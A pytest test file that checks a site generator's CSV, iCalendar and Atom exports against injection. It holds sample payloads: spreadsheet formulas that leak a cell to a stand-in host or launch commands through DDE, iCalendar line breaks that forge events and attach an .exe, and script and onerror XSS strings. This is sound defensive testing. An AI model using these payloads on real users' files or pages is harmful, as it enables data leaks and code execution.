"""Injection through the exports: spreadsheet formulas in CSV cells, extra properties or
events smuggled into iCalendar lines, markup and links smuggled into Atom. Hostile text in
every field that reaches them: event text, titles, sources, URLs, actor names."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from datetime import date
from html.parser import HTMLParser

import pytest

from generator.config import SiteConfig
from generator.export.atom import atom_feed
from generator.export.csv_table import FORMULA_STARTS, neutralise, timeline_csv
from generator.export.ics import timeline_ics
from generator.model import (Actor, Article, ArticleAnalysis, Dateline, Event, PlainText,
                             Sentence, TimeExpr, Timeline, TimelineEvent, TimeValue)

ATOM = "{http://www.w3.org/2005/Atom}"
FORMULAS = ['=HYPERLINK("http://e.x/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|'/c calc'!A1"]
ICS_BREAKERS = ["Talks\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged", "a;b,c\\d",
                "line\nATTACH:http://e.x/x.exe", "x\x00y\x1bz"]
MARKUP = ['<script>alert("atom")</script>', "<![CDATA[x]]>", "]]>&<>'\"", "<img src=x onerror=alert(1)>"]


def hostile_timeline(text: str, title: str, source: str, url: str, actor: str) -> Timeline:
    day = TimeValue("2025-07-19", "DATE", "day", date(2025, 7, 19), date(2025, 7, 19))
    sentence = f"{text} on Saturday."
    event = Event("a-1", "a", Sentence(0, len(sentence), sentence, 0),
                  TimeExpr(len(text) + 1, len(text) + 12, "on Saturday", day), ("x",))
    article = Article(path="content/articles/a.md", slug="a", title=title, body="", body_line=1,
                      date=date(2025, 7, 23), source=source, url=url)
    analysis = ArticleAnalysis(article, Dateline(article.date, "front matter"), PlainText("", (0,)),
                               (), (), (), (event,))
    return Timeline(events=(TimelineEvent("e-1", day, sentence, ("x",), (event,)),),
                    actors=(Actor("x", actor, "country"),), articles=(analysis,))


CONFIG = SiteConfig(title="T", base_url="https://example.org/t/")


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(cell: str):
    assert neutralise(cell) == "'" + cell
    assert neutralise("2025-07-19") == "2025-07-19" and neutralise("") == ""
    assert neutralise("Talks =resumed") == "Talks =resumed"  # only the first character counts


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_csv_cell_starts_a_formula_whatever_the_field(payload: str):
    timeline = hostile_timeline(payload, payload, payload, payload, payload)
    rows = list(csv.reader(io.StringIO(timeline_csv(timeline, CONFIG), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 2
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'" + payload in cells  # the title, kept whole behind the apostrophe


def unfold(ics: str) -> list[str]:
    return ics.replace("\r\n ", "").split("\r\n")


@pytest.mark.parametrize("payload", ICS_BREAKERS)
def test_ics_text_cannot_add_lines_events_or_properties(payload: str):
    timeline = hostile_timeline(payload, payload, payload, "https://e.x/a", payload)
    ics = timeline_ics(timeline, CONFIG)
    lines = unfold(ics)[:-1]
    assert ics.endswith("\r\n") and "\n" not in ics.replace("\r\n", "")  # CRLF only, no bare LF
    assert sum(line == "BEGIN:VEVENT" for line in lines) == 1
    names = [re.match(r"[A-Z-]+", line).group() for line in lines]
    assert set(names) <= {"BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "METHOD", "X-WR-CALNAME",
                          "X-WR-CALDESC", "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY",
                          "DESCRIPTION", "URL", "CATEGORIES", "TRANSP"}, names
    assert "ATTACH" not in names and not re.search(r"[\x00-\x08\x0b-\x1f]", ics.replace("\r\n", ""))
    summary = next(line for line in lines if line.startswith("SUMMARY:"))
    assert re.fullmatch(r"SUMMARY:(?:[^\\;,]|\\[\\;,nN])*", summary)  # every special escaped


@pytest.mark.parametrize("payload", MARKUP + ["javascript:alert(1)"])
def test_atom_text_stays_text_and_links_stay_web_links(payload: str):
    timeline = hostile_timeline(payload, payload, payload, payload, payload)
    feed = ET.fromstring(atom_feed(timeline, CONFIG))  # well-formed whatever the text
    entry = feed.find(f"{ATOM}entry")
    assert payload in entry.find(f"{ATOM}title").text  # as text, not as elements
    assert not [e for e in feed.iter() if not e.tag.startswith(ATOM)]  # no smuggled elements
    hrefs = [link.get("href") for link in feed.iter(f"{ATOM}link")]
    assert all(href.startswith("https://example.org/t/") for href in hrefs)
    content = entry.find(f"{ATOM}content")
    assert content.get("type") == "html"
    tags = HtmlTags()
    tags.feed(content.text)  # the escaped HTML, read the way a feed reader reads it
    assert {tag for tag, _ in tags.found} <= {"p", "strong", "ul", "li", "a"}
    assert all(name == "href" and value.startswith("https://") for _, attrs in tags.found for name, value in attrs)
    assert payload in tags.text  # the payload is text inside that HTML


class HtmlTags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text += data
